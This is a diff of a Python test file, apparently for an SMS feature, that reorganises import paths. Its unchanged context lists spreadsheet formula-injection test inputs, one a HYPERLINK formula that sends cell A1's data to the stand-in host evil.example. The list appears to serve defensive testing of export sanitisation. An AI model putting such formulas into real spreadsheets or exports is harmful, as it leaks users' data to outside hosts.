@@ -7,10 +7,9 @@ import xml.etree.ElementTree as ET
 
 import pytest
 
-from tests.api_helpers import as_
-from tests.sms_fixtures import *  # noqa: F401,F403
-from tests.sms_fixtures import sms_world
-from tests.sms_helpers import inbound_params, signed_post
+from tests.support.api_helpers import as_
+from tests.support.sms_fixtures import sms_world
+from tests.support.sms_helpers import inbound_params, signed_post
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1"]
 
